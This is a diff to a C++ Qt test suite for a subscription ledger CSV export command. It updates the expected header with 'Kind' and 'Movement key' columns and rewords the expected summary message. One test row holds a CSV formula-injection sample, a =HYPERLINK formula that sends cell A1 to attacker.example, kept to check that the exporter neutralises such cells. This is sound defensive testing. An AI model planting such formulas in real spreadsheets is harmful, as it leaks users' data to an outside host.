@@ -1067,18 +1067,18 @@ private slots:
         const QByteArray header = "Subscription,Subscription internal id,Provider,Renewal key,"
                                   "Period start,Period end,Amount,Amount currency,"
                                   "Amount minor units,Paid at,Recorded by,Provider event,"
-                                  "Billing period id\n";
+                                  "Billing period id,Kind,Movement key\n";
         // Same paid_at: by billing period id.
         QByteArray attackerRow = "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,"
                                  "\"\"x\"\")\","
             + attackerIds[0]
             + ",stripe-main,'-2+3,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,19.99,USD,1999,"
               "2026-02-01T00:00:00Z,cli,'@evt_1,"
-            + attackerIds[1] + "\n";
+            + attackerIds[1] + ",renewal,\n";
         QByteArray plainRow = "sub_plain," + plainIds[0]
             + ",stripe-main,in_2,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,5.00,USD,500,"
               "2026-02-01T00:00:00Z,cli,evt_2,"
-            + plainIds[1] + "\n";
+            + plainIds[1] + ",renewal,\n";
         if (plainIds[1] < attackerIds[1])
             std::swap(attackerRow, plainRow);
 
@@ -1089,7 +1089,9 @@ private slots:
         auto r = runProgram(ctl(), withDb(db, february + QStringList {"--out", path}));
         QVERIFY2(r.exitCode == 0, r.err.constData());
         QVERIFY(r.out.isEmpty());
-        QVERIFY2(r.err.contains("2 renewal(s) paid 2026-02-01 to 2026-02-28"), r.err.constData());
+        QVERIFY2(
+            r.err.contains("2 row(s), renewals and money back, dated 2026-02-01 to 2026-02-28"),
+            r.err.constData());
         QFile file(path);
         QVERIFY(file.open(QIODevice::ReadOnly));
         QCOMPARE(file.readAll(), header + attackerRow + plainRow);
@@ -1133,7 +1135,7 @@ private slots:
         QVERIFY2(r.exitCode == 0, r.err.constData());
         QVERIFY(r.out.startsWith(header));
         const QString today = QDateTime::currentDateTimeUtc().date().toString(Qt::ISODate);
-        QVERIFY2(r.err.contains(" paid " + today.left(8).toUtf8() + "01 to "), r.err.constData());
+        QVERIFY2(r.err.contains(" dated " + today.left(8).toUtf8() + "01 to "), r.err.constData());
     }
 
     void ledgerExportRefusesBadDays_data()
